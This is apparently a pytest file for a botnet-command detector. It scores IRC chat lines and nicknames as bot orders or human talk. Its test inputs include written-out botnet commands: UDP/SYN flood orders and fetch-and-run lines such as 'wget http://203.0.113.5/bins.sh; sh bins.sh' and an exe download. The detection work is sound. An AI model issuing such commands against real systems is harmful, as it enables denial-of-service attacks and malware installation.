import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.detect.orders import nick_points, order_points


@pytest.mark.parametrize(
    "text",
    [
        "!* UDP 203.0.113.5 80 60 32 0 10",
        "!* SCANNER ON",
        "!* KILLATTK",
        "!* SH wget http://203.0.113.5/bins.sh; sh bins.sh",
        "!MIPS TSUNAMI 203.0.113.5 60",
        ".udpflood 203.0.113.5 1000 60",
        "!syn victim.example 80 120",
        ".advscan lsass 100 5 0 -r",
        ".download http://203.0.113.5/x.exe c:\\x.exe 1",
        "!*arm* GET http://203.0.113.5/arm7 /tmp/x",
    ],
)
def test_orders(text: str) -> None:
    assert order_points(text) >= 0.4


@pytest.mark.parametrize(
    "text",
    [
        "hello all",
        "!help",
        "!seen anna",
        "!op",
        "!weather london 3",
        "!list",
        "... and then 10.0.0.1 went down at 8",
        "!update",
        "udp 203.0.113.5 80 60",
        "the scan of 203.0.113.5 took 80 minutes",
        "!google wget manual",
        "get it from http://example.org/file",
        "!! wow, 80",
        "",
        "!",
    ],
)
def test_what_people_say(text: str) -> None:
    assert order_points(text) == 0


def test_a_line_for_a_shell_is_half_an_order() -> None:
    assert order_points("wget http://example.org/install.sh && sh install.sh") == 0.3


@pytest.mark.parametrize(
    "nick", ["[ARM]x7f3", "[MIPS]QYJ123", "{USA|XP}48213", "BOT-48213", "[x86_64]abc", "<DVR>1", "arm_77"]
)
def test_names_of_bots(nick: str) -> None:
    assert nick_points(nick) == 0.3


@pytest.mark.parametrize("nick", ["QXJWBZ", "VKTZRQ", "xqkzjvwpbd"])
def test_names_at_random(nick: str) -> None:
    assert nick_points(nick) == 0.15


@pytest.mark.parametrize(
    "nick",
    ["anna", "molochtest", "Guest4711", "[away]anna", "LINUS", "robot", "marius_", "x", "", "dave[work]", "arms"],
)
def test_names_of_people(nick: str) -> None:
    assert nick_points(nick) == 0


@given(st.text(max_size=400))
def test_any_text(text: str) -> None:
    assert 0 <= order_points(text) <= 1
    assert 0 <= order_points("!* " + text) <= 1
    assert 0 <= nick_points(text) <= 1
